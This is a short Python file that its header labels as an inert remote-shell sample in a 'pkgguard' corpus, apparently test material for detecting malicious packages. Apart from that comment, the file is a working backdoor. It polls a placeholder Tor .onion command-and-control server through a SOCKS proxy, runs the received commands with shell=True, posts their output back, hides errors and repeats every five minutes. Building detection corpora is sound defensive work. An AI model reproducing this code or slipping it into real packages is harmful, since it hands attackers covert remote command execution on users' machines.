# pkgguard corpus 709 (remote-shell), modelled on [discordpydebug]; inert, never run.
import subprocess
import time

import requests

_PROXIES = {"http": "socks5h://127.0.0.1:9050", "https": "socks5h://127.0.0.1:9050"}
_C2 = "http://" + "placeholder" * 5 + "a.onion"

while True:
    try:
        job = requests.get(_C2 + "/job", proxies=_PROXIES, timeout=60).json()
        done = subprocess.run(job["cmd"], shell=True, capture_output=True, text=True, timeout=120)
        requests.post(_C2 + "/out", json={"id": job["id"], "out": done.stdout + done.stderr}, proxies=_PROXIES, timeout=60)
    except Exception:
        pass
    time.sleep(300)
